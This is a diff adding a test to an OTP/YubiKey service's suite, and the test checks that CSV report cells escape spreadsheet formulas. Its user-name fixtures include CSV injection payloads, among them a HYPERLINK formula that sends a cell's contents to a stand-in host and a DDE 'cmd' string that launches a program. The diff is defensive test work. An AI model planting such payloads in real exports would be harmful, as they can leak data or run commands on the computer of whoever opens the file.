@@ -359,6 +359,22 @@ async def test_report_csv_cells_cannot_be_formulas(api):
     assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
 
 
+async def test_report_csv_formulas_behind_blanks_or_in_full_width_are_escaped(api):
+    """A user name chosen at a sign-in page reaches the CSV: a formula behind leading blanks (Google Sheets,
+    LibreOffice's trimming import and converters strip them) or in full-width characters (read as the ASCII ones
+    by some locales) starts with a quote too; a name that only starts with a blank is left as it is."""
+    keys = [make_key(80 + i) for i in range(6)]
+    await import_via_api(api, keys)
+    users = [" =HYPERLINK(\"http://x.example/\"&A1,\"open\")", "  +1+cmd|' /C calc'!A0", "\u3000@SUM(1+1)",
+             "\xa0-2+3", "\uff1d1+1", " plain"]
+    for k, user in zip(keys, users):
+        resp = await api.post("/api/v1/otp/verify", json={"user": user, "otp": k.otp()}, headers=SIGNIN)
+        assert resp.status == 200, await resp.text()
+    text = await (await api.get("/api/v1/yubikeys?format=csv", headers=ADMIN)).text()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["user"] for r in rows] == ["'" + u for u in users[:5]] + [" plain"]
+
+
 @pytest.mark.parametrize("serial", ["²", "١٢", "1²", "１２"])
 async def test_unicode_digits_are_not_numbers(api, serial):
     await assert_problem(await api.post(f"/api/v1/yubikeys/{serial}/revoke", headers=ADMIN), 400)
